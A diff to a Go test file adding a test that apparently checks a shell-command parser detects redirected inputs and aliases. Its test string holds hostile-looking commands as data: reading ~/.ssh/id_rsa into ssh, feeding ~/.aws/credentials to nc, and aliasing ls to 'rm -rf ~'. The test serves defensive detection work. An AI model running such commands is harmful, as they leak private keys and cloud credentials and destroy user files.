@@ -410,3 +410,26 @@ func TestG14_Base(t *testing.T) {
 		}
 	}
 }
+
+func TestG14_InputsAndAliases(t *testing.T) {
+	sc, err := shell.Parse("ssh host cat < ~/.ssh/id_rsa; { nc h 1; } <~/.aws/credentials; alias ls='rm -rf ~'; cat <&3")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got [][]string
+	var aliased bool
+	for _, c := range sc.Commands {
+		if len(c.Inputs) > 0 {
+			got = append(got, c.Inputs)
+		}
+		if len(c.Wrappers) > 0 && c.Wrappers[0] == "alias ls" && c.Program() == "rm" {
+			aliased = true
+		}
+	}
+	if len(got) != 2 || got[0][0] != "~/.ssh/id_rsa" || got[1][0] != "~/.aws/credentials" {
+		t.Errorf("inputs = %q", got)
+	}
+	if !aliased {
+		t.Error("the alias's command was not seen")
+	}
+}
